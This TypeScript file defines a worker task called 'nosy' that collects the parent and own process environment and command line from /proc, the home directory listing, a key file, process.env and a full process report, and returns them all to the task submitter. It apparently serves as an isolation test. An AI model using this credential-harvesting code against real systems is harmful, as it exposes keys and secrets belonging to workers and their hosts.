import { readdirSync, readFileSync } from 'node:fs'
import { defineTask } from 'p2p-worker'

function found(look: () => string): string {
  try {
    return look()
  } catch {
    return ''
  }
}

/** Looks in all places where the cluster's key could be, and returns everything that it finds. */
export default defineTask({
  name: 'nosy',
  split: ({ home }: { home: string }) => [home],
  run: (home: string): string =>
    [
      ...[process.ppid, 'self'].flatMap(pid =>
        ['environ', 'cmdline'].map(file => found(() => readFileSync(`/proc/${pid}/${file}`, 'utf8')))
      ),
      found(() => readdirSync(home).join()),
      found(() => readFileSync(`${home}/keys/test.key`, 'utf8')),
      found(() => JSON.stringify(process.env)),
      found(() => JSON.stringify(process.report.getReport()))
    ].join('\n'),
  initial: '',
  reduce: (all: string, text: string) => all + text
})
